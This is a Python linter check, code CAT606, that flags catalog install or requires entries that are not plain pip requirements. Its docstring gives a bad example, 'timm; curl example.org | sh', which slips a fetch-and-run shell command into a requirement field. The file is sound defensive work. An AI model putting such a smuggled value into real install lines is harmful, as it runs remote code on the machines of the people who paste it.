"""An install line that is not a plain pip requirement.

These lines are shown to people who paste them into a shell.

Bad (libraries/my-library.yaml):

    id: my-library
    install: ["timm; curl example.org | sh"]

Good (libraries/my-library.yaml):

    id: my-library
    install: ["timm>=1.0"]
"""

from __future__ import annotations

from collections.abc import Iterator

from packaging.requirements import InvalidRequirement, Requirement

from ptx.catalog.document import KeyPath
from ptx.checks.entry import Entry, Finding, strings
from ptx.checks.world import World

CODE = "CAT606"


def check(entry: Entry, world: World) -> Iterator[Finding]:  # noqa: ARG001  # every check has this shape
    """Yield a finding for each requirement of another form, or with an address in it."""
    places: list[tuple[KeyPath, object]] = []
    if entry.kind == "libraries":
        places.append((("install",), entry.data.get("install")))
    places += [((*path, "requires"), model.get("requires")) for path, model in entry.models()]
    for place, value in places:
        for path, text in strings(value, place):
            if not _plain(text):
                yield entry.finding(CODE, path, f"'{text[:60]}' is not a plain requirement such as timm>=1.0")


def _plain(text: str) -> bool:
    try:
        requirement = Requirement(text)
    except InvalidRequirement:
        return False
    return requirement.url is None and requirement.marker is None
